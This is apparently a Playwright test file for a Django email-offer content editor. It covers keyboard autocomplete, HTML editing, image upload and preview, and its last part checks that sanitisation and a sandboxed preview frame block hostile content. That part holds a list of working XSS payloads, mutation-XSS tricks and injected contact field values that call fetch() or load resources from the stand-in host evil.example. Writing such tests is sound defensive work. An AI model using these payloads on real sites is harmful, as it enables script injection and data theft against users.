# ruff: noqa: E501 (what attackers write is long)
"""Content in a real browser: writing it, with a keyboard alone; and hostile content, which does
nothing: no script runs, and nothing is fetched from elsewhere."""

import io
import re

import pytest
from django.urls import reverse
from PIL import Image

from catalog.cleaning import clean_field
from catalog.models import Offer, Space
from catalog.models.content import Asset
from catalog.rendering import BadTemplate, parse_template
from catalog.shapes import RepresentationShape, SpaceShape
from tests.browser.waiting import expect
from tests.build import make_contact
from tests.catalog.making import make_offer, make_shop, write

FIELDS = ({"name": "title"}, {"name": "html"}, {"name": "image_url"})


@pytest.fixture
def offer():
    shop = make_shop()
    space = {"name": "mailBody", "label": "Mails", "channel": "email", "fields": FIELDS}
    write(None, SpaceShape.model_validate(space), shop)
    return make_offer(
        shop,
        content={"title": "Half price", "html": "<p>Only <strong>now</strong>:</p>"},
        representations=(RepresentationShape(space="mailBody"),),
    )


@pytest.fixture
def form(open_page, offer):
    page = open_page(reverse("catalog:offer-edit-content", args=["shop", offer.code]))
    page.wait_for_selector("[data-content][data-ready=editors]")
    return page


def area(form, field, place="*"):
    return form.locator(f'textarea[name="content.{place}.en.{field}"]')


def test_names_are_offered_while_one_writes_and_taken_with_the_keyboard(form):
    title = area(form, "title")
    title.fill("")
    title.press_sequentially("Hello {{ first")

    expect(title).to_have_attribute("aria-activedescendant", re.compile("-0$"))
    title.press("Enter")

    expect(title).to_have_value("Hello {{ contact.first_name }}")
    expect(title).not_to_have_attribute("aria-activedescendant", re.compile("."))


def test_what_is_shown_is_edited_and_its_html_stays_small(form):
    page = form.locator(".content-page").first
    page.click()
    page.press("Control+End")
    page.press_sequentially(" and {{ contact.city }}")

    expect(area(form, "html")).to_have_value(
        "<p>Only <strong>now</strong>: and {{ contact.city }}</p>"
    )


TOO_RICH = (
    '<table bgcolor="#eeeeee"><tbody><tr><td>A</td></tr></tbody></table>',
    '<p style="color: red">A</p>',
    '<p {% if contact.city %} class="a" {% endif %}>A</p>',
    "<div><p>A</p></div>",
)


def test_html_that_cannot_be_shown_is_edited_as_html_and_stays(form):
    holder = form.locator('[data-field="html"]').first
    as_html = holder.get_by_role("button", name="HTML")
    as_shown = holder.get_by_role("button", name="As shown")
    for html in TOO_RICH:
        as_html.click()
        area(form, "html").fill(html)
        as_shown.click()
        expect(holder.locator("[data-too-rich]")).to_be_visible()
        expect(area(form, "html")).to_be_visible()
        expect(area(form, "html")).to_have_value(html)

        area(form, "html").fill("<p>A</p>")
        as_shown.click()
        expect(holder.locator(".content-page")).to_be_visible()
        expect(holder.locator("[data-too-rich]")).to_be_hidden()


def test_liquid_and_lists_go_into_the_editor_and_come_out_alike(form):
    html = "<ul><li>{% if contact.city &lt; 'a' %}A{% endif %}</li><li>B</li></ul>"
    holder = form.locator('[data-field="html"]').first
    holder.get_by_role("button", name="HTML").click()
    area(form, "html").fill(html.replace("&lt;", "<"))
    holder.get_by_role("button", name="As shown").click()
    holder.locator(".content-page li").last.click()
    holder.locator(".content-page").press("End")
    holder.locator(".content-page").press("!")

    expect(area(form, "html")).to_have_value(
        "<ul><li>{% if contact.city < 'a' %}A{% endif %}</li><li>B!</li></ul>"
    )


def test_a_picture_is_uploaded_and_chosen_without_leaving_the_form(form):
    to = io.BytesIO()
    Image.new("RGB", (40, 20), "teal").save(to, "PNG")
    form.locator("[data-choose]").first.click()
    dialog = form.locator("#dialog")
    expect(dialog).to_be_visible()
    dialog.locator("input[type=file]").set_input_files(
        {"name": "hat.png", "mimeType": "image/png", "buffer": to.getvalue()}
    )

    expect(dialog).to_be_hidden()
    asset = Asset.objects.get()
    expect(area(form, "image_url")).to_have_value(f"/assets/{asset.hash}.png")
    shown = form.locator("[data-picture-shown]").first
    expect(shown).to_be_visible()
    assert shown.evaluate("image => image.decode().then(() => image.naturalWidth)") == 40


def test_what_is_typed_is_shown_beside_the_form(form):
    area(form, "title").fill("Quarter price")

    frame = form.frame_locator(".content-preview iframe")
    expect(frame.locator("body")).to_contain_text("now")
    expect(form.locator(".content-preview .device-mail-subject")).to_have_text("Quarter price")


# --- hostile content ---

EVIL = "https://evil.example"
HOSTILE = [
    f"<script>fetch('{EVIL}/a')</script>",
    f"<img src=x onerror=\"fetch('{EVIL}/b')\">",
    f"<svg onload=\"fetch('{EVIL}/c')\"><image href='{EVIL}/d.png'/></svg>",
    f"<style>@import url({EVIL}/e.css); body {{ background: url({EVIL}/f.png) }}</style>",
    f"<p style=\"background: url('{EVIL}/g.png')\">x</p>",
    f"<p style=\"background: u\\72 l({EVIL}/h.png)\">x</p>",
    f"<link rel=stylesheet href='{EVIL}/i.css'><meta http-equiv=refresh content='0;url={EVIL}/j'>",
    f"<iframe src='{EVIL}/k'></iframe><object data='{EVIL}/l'></object><embed src='{EVIL}/m'>",
    f"<form action='{EVIL}/n'><button autofocus onfocus=\"fetch('{EVIL}/o')\">x</button></form>",
    f"<video src='{EVIL}/p'></video><audio src='{EVIL}/q'></audio><input type=image src='{EVIL}/r'>",
    f"<img srcset='{EVIL}/s.png 1x'><picture><source srcset='{EVIL}/t.png'></picture>",
    f"<base href='{EVIL}/'><a ping='{EVIL}/u' href='javascript:fetch(1)'>x</a>",
    f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=fetch('{EVIL}/v')&gt;\">",
    f"<noscript><p title=\"</noscript><img src=x onerror=fetch('{EVIL}/w')>\"></noscript>",
    f"<p title='{{% if contact.city %}}' onclick=\"fetch('{EVIL}/x')\" y='{{% endif %}}'>x</p>",
    f"{{{{ \"<img src=x onerror=fetch('{EVIL}/y')>\" }}}}",
    f"<body background='{EVIL}/z.png'><table background='{EVIL}/0.png'><tr><td>x</td></tr></table>",
    "<p>{{ contact.first_name }}</p><img src=\"{{ contact.city }}\" alt=\"{{ contact.last_name }}\">",
]  # fmt: skip


def watch(page):
    """What leaves for elsewhere: kind and address. Requests that a policy stops do not."""
    left = []

    def note(route):
        left.append((route.request.resource_type, route.request.url))
        route.fulfill(status=204)

    page.route("**/*evil.example/**", note)
    return left


def settle(page):
    """Every frame has loaded what it names, and what would come late had half a second to leave."""
    for frame in page.frames:
        frame.wait_for_load_state("load")
    page.wait_for_timeout(500)


def cleaned(text):
    try:
        return clean_field(text, "html").text
    except BadTemplate:
        return ""


def is_template(text):
    try:
        parse_template(text, kind="html")
    except BadTemplate:
        return False
    return True


def test_hostile_content_fetches_nothing_and_runs_nothing(open_page, offer):
    make_contact(
        "C-1",
        first_name=f"<img src='{EVIL}/1' onerror=fetch(1)>",
        last_name=f"\" onerror=\"fetch('{EVIL}/2')",
        city="javascript:fetch(1)",
    )
    Offer.objects.filter(pk=offer.pk).update(
        content={"html": "".join(map(cleaned, HOSTILE)), "title": f"<img src='{EVIL}/3'>"}
    )

    page = open_page(reverse("catalog:offer-list", args=["shop"]))
    left = watch(page)
    page.goto(page.url.replace("/offers/", f"/offers/{offer.code}/preview/?contact=C-1"))
    inside = page.frame_locator("iframe").first
    inside.locator("body").wait_for()
    settle(page)

    assert (
        inside.locator(
            "body :is(script, svg, style, iframe, form, object, embed, link, meta)"
        ).count()
        == 0
    )
    assert "<img src='https://evil.example/1'" in inside.locator("body").inner_text()
    assert left == []


def test_content_that_was_never_cleaned_still_runs_nothing(page, live_server, administrator, offer):
    """Should something ever get past the cleaning, the frame still shows pictures and no more."""
    from tests.browser.conftest import sign_in  # noqa: PLC0415

    bad = [each for each in HOSTILE if "{{" not in each and is_template(each)]
    Space.objects.filter(name="mailBody").update(render_html="{{ html }}")
    Offer.objects.filter(pk=offer.pk).update(content={"html": "".join(bad)})
    sign_in(page, live_server, administrator)
    left = watch(page)

    page.goto(f"{live_server.url}/catalogue/shop/offers/{offer.code}/preview/")
    page.frame_locator("iframe").first.locator("body").wait_for(state="attached")
    settle(page)

    assert {kind for kind, _address in left} == {"image"}
